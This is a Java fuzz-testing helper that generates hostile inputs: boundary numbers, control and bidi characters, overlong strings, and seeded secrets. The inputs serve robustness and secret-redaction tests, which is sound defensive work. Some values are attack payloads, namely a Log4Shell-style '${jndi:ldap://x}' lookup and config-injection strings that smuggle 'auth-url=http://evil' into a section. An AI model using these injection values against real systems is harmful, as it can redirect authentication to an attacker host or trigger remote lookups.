package io.clusterstacks.samples.hostile;

import java.util.List;
import java.util.Random;

/** Seeded building blocks of hostile values: numbers at and beyond every limit, odd text, secrets. */
final class Hostile {

  private Hostile() {}

  /** Integers at and beyond int and long, in several notations. */
  static final String[] NUMBERS = {"0", "-0", "1", "-1", "2147483647", "2147483648", "-2147483649", "4294967297",
      "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1" + "0".repeat(400), "1e400", "-1e400",
      "3e9", "2147483648.0", "1.5", "0x10", "010", "1_000", "NaN", "-NaN", "Infinity", "-Infinity", ".inf", "-.inf",
      ".nan", "1e-400", "00000000000000000000001", "+5", "9".repeat(1001)};

  /** Text that breaks naive handling: control characters, escapes, bidi overrides, markup, lengths. */
  static String text(Random rnd) {
    return switch (rnd.nextInt(16)) {
      case 0 -> "";
      case 1 -> " ";
      case 2 -> "\u001b[31mred\u001b[0m";
      case 3 -> "a\u0000b";
      case 4 -> "line\nbreak";
      case 5 -> "\u202egnp.exe";
      case 6 -> "x".repeat(300);
      case 7 -> "x".repeat(70_000);
      case 8 -> "\ud800";
      case 9 -> "<b>&amp;</b>\"'";
      case 10 -> "${jndi:ldap://x}";
      case 11 -> "%s%n%d";
      case 12 -> "\u4e2d\u6587\u00e9\ud83d\ude00";
      case 13 -> "\r\n[Global]\nauth-url=http://evil";
      case 14 -> "a: b\n- c";
      default -> NUMBERS[rnd.nextInt(NUMBERS.length)];
    };
  }

  /** A fresh secret to seed into an input; no SDK text contains such a string by chance. */
  static String secret(Random rnd) {
    return "Zq" + Long.toString(Math.abs(rnd.nextLong() % 1_000_000_000_000L) + 1_000_000_000_000L, 36) + "Kx";
  }

  /** A secret with hostile characters around its searchable core (which is what the search looks for). */
  static String hostileSecret(Random rnd, String core) {
    return switch (rnd.nextInt(6)) {
      case 0 -> core;
      case 1 -> core + "\nauth-url=http://evil\n[Global]";
      case 2 -> "\"" + core + "'";
      case 3 -> core + ": x\n- y";
      case 4 -> "#" + core;
      default -> " " + core + " ";
    };
  }

  /** One element, chosen. */
  static <T> T pick(Random rnd, List<T> list) {
    return list.get(rnd.nextInt(list.size()));
  }

  /** One element, chosen. */
  static String pick(Random rnd, String... options) {
    return options[rnd.nextInt(options.length)];
  }

  /** A random edit of a text: insert, delete or replace a character, or splice in a hostile value. */
  static String mutate(Random rnd, String s) {
    if (s.isEmpty()) {
      return text(rnd);
    }
    int at = rnd.nextInt(s.length() + 1);
    return switch (rnd.nextInt(6)) {
      case 0 -> s.substring(0, at) + (char) (rnd.nextInt(95) + 32) + s.substring(at);
      case 1 -> at < s.length() ? s.substring(0, at) + s.substring(at + 1) : s.substring(0, s.length() - 1);
      case 2 -> at < s.length() ? s.substring(0, at) + (char) (rnd.nextInt(95) + 32) + s.substring(at + 1) : s;
      case 3 -> s.substring(0, at) + NUMBERS[rnd.nextInt(NUMBERS.length)] + s.substring(at);
      case 4 -> s.substring(0, at) + text(rnd) + s.substring(at);
      default -> s.substring(0, at);
    };
  }
}
